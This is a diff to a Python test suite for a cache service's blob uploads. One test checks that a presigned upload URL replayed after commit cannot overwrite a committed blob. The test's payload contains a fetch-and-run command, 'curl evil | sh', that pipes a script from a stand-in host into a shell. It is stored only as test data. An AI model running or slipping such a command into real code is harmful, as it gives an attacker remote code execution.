@@ -22,10 +22,11 @@ import zstandard
 from sqlalchemy import update
 
 from cachesvc.content import blobs
+from cachesvc.lifecycle import collect
 from cachesvc.models import Blob, Version
 from cachesvc.storage import blob_key, pack_key
 from cachesvc_client import CacheClient
-from tests.helpers import ENV, key, publish_body, put_blob, sha
+from tests.helpers import ENV, key, publish_body, put_blob, sha, zstd_target
 from tests.service.test_packs import FILES, build_pack, publish_packed
 
 pytestmark = pytest.mark.backends  # each storage path x each database's lock
@@ -49,12 +50,15 @@ def create(client, files, k=None) -> dict:
     return resp.json
 
 
-def upload_zstd(client, answer, files, level=3) -> None:
+def upload_zstd(client, answer, files, level=3) -> dict:
+    """PUT each blob of ``answer`` as zstd; the target of the last one."""
     by_digest = {sha(d): d for d in files.values()}
-    for item in answer["upload"]:
+    for n, item in enumerate(answer["upload"]):
         body = zstandard.ZstdCompressor(level=level).compress(by_digest[item["sha256"]])
-        resp = put_blob(client, item["targets"]["zstd"], body)
+        target = zstd_target(client, answer, body, n)
+        resp = put_blob(client, target, body)
         assert resp.status_code in (200, 201), getattr(resp, "text", resp)
+    return target
 
 
 def commit(client, answer, encoding="zstd"):
@@ -98,7 +102,7 @@ def test_a_put_for_a_blob_stored_before_the_version_is_409_and_restores_still_wo
 
 
 def test_a_blob_stored_by_a_concurrent_publish_is_answered_already_stored(client, app, storage):
-    if storage.upload_target("probe", 60) is not None:
+    if storage.upload_target("probe", 60, 1) is not None:
         pytest.skip("presigned uploads land in each version's incoming folder, checked and moved at commit "
                     "(test_a_presigned_url_replayed_after_commit_cannot_change_what_was_committed)")
     files = {"shared.so": bytes(range(256)) * 900}
@@ -113,7 +117,7 @@ def test_a_blob_stored_by_a_concurrent_publish_is_answered_already_stored(client
     bad = client.put(target["url"], data=zstandard.ZstdCompressor().compress(b"not the blob"))
     assert bad.status_code == 400 and stored_state(app, storage, sha(files["shared.so"])) == before
     assert commit(client, first).json["status"] == "committed"
-    upload_zstd(client, {"upload": [i for i in second["upload"] if i["sha256"] == sha(b"o")]}, {"other": b"o"})
+    upload_zstd(client, {**second, "upload": [i for i in second["upload"] if i["sha256"] == sha(b"o")]}, {"other": b"o"})
     assert commit(client, second).json["status"] == "committed"
 
 
@@ -148,7 +152,7 @@ def test_a_recorded_pack_is_never_overwritten(client, app, storage):
     assert same.status_code == 200 and same.json["status"] == "already_stored", same.json
     with storage.open(pack_key(sha(data))) as body:
         assert hashlib.sha256(body.read()).digest() == hashlib.sha256(before).digest()
-    if storage.upload_target("probe", 60) is not None:  # S3 presigned: a pack not recorded still gets a URL
+    if storage.upload_target("probe", 60, 1) is not None:  # S3 presigned: a pack not recorded still gets a URL
         fresh, _ = build_pack({"n": b"n"}, zstd=())
         other = client.post(f"/api/v1/versions/{vid}/packs", json={"packs": [{"sha256": sha(fresh),
                                                                              "size": len(fresh)}]})
@@ -162,17 +166,18 @@ def test_a_presigned_url_replayed_after_commit_cannot_change_what_was_committed(
                                                                                 tokens, tmp_path):
     """A presigned PUT URL stays valid for PRESIGN_EXPIRES after its version commits. It names the
     version's incoming folder, never the blob's key: commit checked the upload there and moved it into
-    place, so replaying the URL with other bytes writes only an incoming object that GC sweeps."""
+    place, so replaying the URL with other bytes (of its signed length) writes only an incoming object,
+    which the next GC deletes (issue 37: at once, not once the upload lease is over)."""
     victim = create(client, VICTIM, key(name="victim"))
-    [item] = victim["upload"]
-    url = item["targets"]["zstd"]["url"]
+    url = upload_zstd(client, victim, VICTIM)["url"]
     assert url.startswith("http") and "/v1/incoming/" in url
-    upload_zstd(client, victim, VICTIM)
     assert commit(client, victim).json["status"] == "committed"
     before = stored_state(app, storage, VICTIM_DIGEST)
     assert not list(storage.iter_keys("v1/incoming/")), "commit moved the upload into place"
 
     evil = zstandard.ZstdCompressor().compress(b"import os; os.system('curl evil | sh')\n")
+    evil += b"\0" * (before[1][0] - len(evil))  # the URL takes its signed length only
+    assert requests.put(url, data=evil + b"\0", timeout=30).status_code == 403
     assert requests.put(url, data=evil, timeout=30).status_code == 200  # the URL still works ...
     assert stored_state(app, storage, VICTIM_DIGEST) == before  # ... but not on the committed object
 
@@ -182,5 +187,5 @@ def test_a_presigned_url_replayed_after_commit_cannot_change_what_was_committed(
     assert (tmp_path / "fleet/graphs/victim.py").read_bytes() == VICTIM["graphs/victim.py"]
 
     svc = app.extensions["cachesvc"]
-    assert svc.storage.sweep_incoming(older_than=0) == 1  # what GC does once the upload lease is over
+    assert collect.gc(svc.db, svc.storage, svc.settings)["incoming_deleted"] == 1  # no commit will take it
     assert not list(storage.iter_keys("v1/incoming/"))
